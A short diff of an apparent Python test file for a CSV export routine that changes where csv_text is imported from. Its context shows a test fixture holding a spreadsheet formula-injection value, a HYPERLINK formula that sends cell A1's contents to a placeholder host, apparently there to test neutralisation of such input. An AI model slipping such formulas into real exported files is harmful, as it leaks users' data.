@@ -13,8 +13,8 @@ from support.runs import Runs
 
 import hpc_remetrics
 from hpc_remetrics import path_bytes
+from hpc_remetrics.dataset.text_values import csv_text
 from hpc_remetrics.export import export_command
-from hpc_remetrics.store.readable import csv_text
 
 NAMES = [
     b'=HYPERLINK("http://x/?"&A1,"click")',
